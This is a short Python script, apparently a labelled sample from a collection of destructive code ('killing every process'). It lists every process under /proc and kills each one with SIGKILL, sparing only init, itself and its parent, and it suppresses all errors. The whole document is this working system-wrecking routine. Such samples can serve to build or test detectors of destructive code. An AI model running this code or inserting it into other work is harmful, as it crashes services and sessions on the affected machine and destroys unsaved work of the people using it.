# class: killing every process; style: proc walk
import os, signal
me = os.getpid()
for d in os.listdir('/proc'):
    if d.isdigit() and int(d) not in (1, me, os.getppid()):
        try:
            os.kill(int(d), signal.SIGKILL)
        except OSError:
            pass
